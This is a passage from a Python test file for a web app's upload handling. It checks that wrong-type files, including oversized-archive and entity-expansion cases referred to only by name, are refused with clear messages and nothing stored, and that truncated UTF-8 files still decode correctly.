    ("gifts import", "program", "tool.exe",
     "The file is neither CSV text nor an XLSX workbook: it holds binary data."),
    ("tavern cover", "program", "tool.exe", "Only PNG, JPEG or WebP images"),
    ("tavern import", "png", "games.csv", "The file is not a CSV file: it holds a PNG image."),
    ("gifts import", "png", "items.csv",
     "The file is neither CSV text nor an XLSX workbook: it holds a PNG image."),
    ("tavern cover", "csv", "cover.png", "Only PNG, JPEG or WebP images"),
    ("tavern import", "bomb", "games.csv",
     "The file is not a CSV file: it holds a zip archive or an XLSX workbook."),
    ("gifts import", "bomb", "items.xlsx",
     "The workbook's part 'xl/sharedStrings.xml' unpacks to 65 MB (at most 64 MB)"),
    ("gifts import", "laughs", "items.xlsx", "limit on input amplification factor"),
]


@pytest.mark.parametrize(("route", "content", "filename", "message"), WRONG_TYPES)
def test_a_file_of_the_wrong_type_is_refused_clearly_and_nothing_is_stored(
        app, client, auth, game, tmp_path, route, content, filename, message):
    auth.login("admin")
    response = post_upload(client, route, game, CONTENTS[content](), filename, htmx=True)
    assert response.status_code == 422
    assert message in html.unescape(response.get_data(as_text=True))
    assert stored(app, tmp_path) == NOTHING


PIZZERIA_NOT_TEXT = [
    ("pizzeria nightly", "png", "nights.csv",
     "The nightly CSV is not a CSV file: it holds a PNG image."),
    ("pizzeria exports", "bomb", "pos.csv", "The point-of-sale export is not a CSV file: it "
     "holds a zip archive or an XLSX workbook."),
]


@pytest.mark.parametrize(("route", "content", "filename", "message"), PIZZERIA_NOT_TEXT)
def test_the_pizzeria_job_refuses_a_file_that_is_not_text_and_keeps_none_of_it(
        app, client, auth, game, monkeypatch, route, content, filename, message):
    """Regression: an image named .csv was read as rows of garbage, and a failed batch kept
    the uploaded bytes in the database for good.

    The upload form refuses such a file first (the test below); the job checks again for any
    caller that skips the form, so the form's check is switched off here.
    """
    import webapp.csv_import
    from webapp.pizzeria.import_models import ImportFile

    monkeypatch.setattr(webapp.csv_import, "binary_problem", lambda head, what="": None)
    auth.login("admin")
    response = post_upload(client, route, game, CONTENTS[content](), filename, htmx=False)
    batch_id = response.headers["Location"].rsplit("/", 1)[1]
    with app.app_context():
        wait_for_job(get_batch(batch_id).job_id)
        batch = get_batch(batch_id)
        assert (batch.status, batch.error) == ("failed", message + " Save it as CSV "
                                               "(comma-separated values) and upload that.")
        assert db.session.scalars(select(ImportFile.payload)).all() == [None]
    assert message in html.unescape(client.get(response.headers["Location"]).get_data(
        as_text=True))


@pytest.mark.parametrize(("route", "content", "filename", "message"), PIZZERIA_NOT_TEXT)
def test_the_pizzeria_upload_refuses_a_file_that_is_not_text_with_422(
        app, client, auth, game, tmp_path, route, content, filename, message):
    auth.login("admin")
    response = post_upload(client, route, game, CONTENTS[content](), filename, htmx=True)
    assert response.status_code == 422
    assert ("The file is not a CSV file: it holds " + message.split("it holds ")[1]
            in html.unescape(response.get_data(as_text=True)))
    assert stored(app, tmp_path) == NOTHING


# --- truncated files: a cut inside a character garbles nothing else ---------------------------

CUT = "date,reservations,doughs,event_note\n2024-01-01,1,2,Fête\n2024-01-02,1,2,Noël €".encode()


def test_a_utf8_file_cut_inside_a_character_stays_utf8():
    """Regression: the whole file was read as Latin-1, so every accented letter before the cut
    was garbled ("FÃªte")."""
    from webapp.csv_import import decode
    from webapp.pizzeria.imports import parse_nightly

    text, notes = decode(CUT[:-1])
    assert text.endswith("Noël \ufffd") and "Fête" in text
    assert notes == ["The file ends in the middle of a character (was it cut off?); its last "
                     "character was replaced by \ufffd."]
    assert [row.event_note for row in parse_nightly(CUT[:-1]).rows] == ["Fête", "Noël \ufffd"]
    # A lone accented byte at the end of ASCII text is Latin-1, as before.
    assert decode("name\ncafé".encode("latin-1"))[0] == "name\ncafé"


def test_a_gift_list_cut_inside_a_character_stays_utf8(app, tmp_path):
    from webapp.gifts.imports import read_preview

    path = tmp_path / "cut.csv"
    path.write_bytes("Name,Price,Vendor\nFête mug,5,Café\nNoël tea,6,Maß €".encode()[:-1])
    with app.app_context():
        preview = read_preview(path)
    assert preview.rows == [["Fête mug", "5", "Café"], ["Noël tea", "6", "Maß \ufffd"]]
    assert any("ends in the middle of a character" in note for note in preview.notes)
